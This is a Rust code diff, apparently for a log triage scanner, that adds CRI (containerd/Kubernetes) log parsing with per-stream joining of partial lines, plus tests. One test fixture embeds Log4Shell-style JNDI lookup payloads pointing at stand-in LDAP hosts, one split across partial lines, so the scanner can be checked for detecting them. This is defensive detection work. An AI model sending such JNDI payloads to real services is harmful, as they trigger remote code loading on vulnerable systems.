@@ -23,6 +23,9 @@ pub enum LogFormat {
     Text,
     /// Docker json-file: one `{"log","stream","time"}` object per line.
     JsonFile,
+    /// CRI (containerd, CRI-O, Kubernetes `/var/log/pods`): `<RFC 3339> <stream> <P|F> <msg>`
+    /// per line; `P` lines are parts of one message, joined per stream up to the `F` line.
+    Cri,
 }
 
 impl LogFormat {
@@ -31,10 +34,30 @@ impl LogFormat {
         let h = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
         if h.starts_with(b"{\"log\":") {
             LogFormat::JsonFile
+        } else if split_cri(h.split(|c| *c == b'\n').next().unwrap_or(h)).is_some() {
+            LogFormat::Cri
         } else {
             LogFormat::Text
         }
     }
+}
+
+/// One CRI log line split into (time, stream, partial, message), if it is one.
+fn split_cri(line: &[u8]) -> Option<(Timestamp, &str, bool, &[u8])> {
+    let mut parts = line.splitn(4, |c| *c == b' ');
+    let time = std::str::from_utf8(parts.next()?).ok().filter(|t| t.contains('T'))?;
+    let time = Timestamp::parse_rfc3339(time)?;
+    let stream = match parts.next()? {
+        b"stdout" => "stdout",
+        b"stderr" => "stderr",
+        _ => return None,
+    };
+    let partial = match parts.next()? {
+        b"P" => true,
+        b"F" => false,
+        _ => return None,
+    };
+    Some((time, stream, partial, parts.next().unwrap_or_default()))
 }
 
 /// Tuning of a scan. The defaults are what ctriage uses; tests vary them.
@@ -226,6 +249,8 @@ impl State<'_> {
                 self.text_region(region, max_record)
             }
             LogFormat::JsonFile => self.json_region(region),
+            LogFormat::Cri if self.line_off > 0 => self.text_region(region, max_record),
+            LogFormat::Cri => self.cri_region(region),
         };
         self.line += newlines;
         self.abs += region.len() as u64;
@@ -272,6 +297,49 @@ impl State<'_> {
             start = end + 1;
         }
         newlines
+    }
+
+    fn cri_region(&mut self, region: &[u8]) -> u64 {
+        let mut start = 0usize;
+        let mut line = self.line;
+        let mut newlines = 0;
+        while start < region.len() {
+            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
+            self.cri_line(trim_cr(&region[start..end]), line, self.abs + start as u64);
+            if end < region.len() {
+                newlines += 1;
+                line += 1;
+            }
+            start = end + 1;
+        }
+        newlines
+    }
+
+    fn cri_line(&mut self, raw: &[u8], line: u64, offset: u64) {
+        let Some((time, stream, partial, msg)) = split_cri(raw) else {
+            // Not a CRI line (a stray line in the file): searched as text.
+            if self.engine.next_candidate(raw, 0).is_some() {
+                let time = line_time(raw, self.cfg.syslog_year);
+                self.record(raw, line, offset, time, None);
+            }
+            return;
+        };
+        let msg_offset = offset + (raw.len() - msg.len()) as u64;
+        if let Some(mut p) = self.pending.remove(stream) {
+            let room = self.cfg.max_join.saturating_sub(p.text.len());
+            p.text.extend_from_slice(&msg[..msg.len().min(room)]);
+            if partial && p.text.len() < self.cfg.max_join {
+                self.pending.insert(stream.to_string(), p);
+            } else {
+                self.message(&p.text, p.line, p.offset, p.time, stream);
+            }
+        } else if partial {
+            let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
+            self.pending
+                .insert(stream.to_string(), Pending { text, line, offset: msg_offset, time: Some(time) });
+        } else {
+            self.message(msg, line, msg_offset, Some(time), stream);
+        }
     }
 
     fn json_line(&mut self, raw: &[u8], line: u64, offset: u64) {
@@ -493,6 +561,35 @@ mod tests {
     use super::*;
 
     #[test]
+    fn cri_partial_lines_are_joined_per_stream_before_matching() {
+        // containerd splits long messages into `P` parts ended by an `F` line; a payload
+        // cut across them, with the other stream interleaved, is found once, on the line
+        // where the message starts, with its time and stream.
+        let log = b"2026-11-27T14:00:00.100000000Z stdout F GET / 200\n\
+2026-11-27T14:00:01.000000000Z stdout P 10.0.0.9 - - \"GET /?q=${jn\n\
+2026-11-27T14:00:01.000000001Z stderr F unrelated warning\n\
+2026-11-27T14:00:01.000000002Z stdout P di:ldap://cri.example:1389/\n\
+2026-11-27T14:00:01.000000003Z stdout F a} HTTP/1.1\" 200\n\
+not a cri line ${jndi:ldap://stray.example/x}\n";
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("0.log");
+        for buf_size in [80, 1 << 20] {
+            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
+            let scan = scan_stream(&log[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
+            let jndi: Vec<_> = scan
+                .hits
+                .iter()
+                .filter(|h| h.found.jndi.is_some())
+                .map(|h| (h.locator.line, h.stream.clone()))
+                .collect();
+            assert_eq!(jndi, [(Some(2), Some("stdout".to_string())), (Some(6), None)], "buf {buf_size}");
+            let first = scan.hits.iter().find(|h| h.locator.line == Some(2)).unwrap();
+            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:01.000000000Z"));
+            assert_eq!(first.found.jndi.as_ref().unwrap().host.as_deref(), Some("cri.example"));
+        }
+    }
+
+    #[test]
     fn newline_count_matches_naive_count_at_every_size() {
         let mut data = Vec::new();
         for i in 0..20_000u32 {
@@ -507,6 +604,8 @@ mod tests {
 
     #[test]
     fn format_is_sniffed() {
+        assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00.123456789Z stdout F GET /\n"), LogFormat::Cri);
+        assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00.1Z hello\n"), LogFormat::Text);
         assert_eq!(LogFormat::sniff(b"{\"log\":\"x\"}"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"\xef\xbb\xbf{\"log\":"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00Z x"), LogFormat::Text);
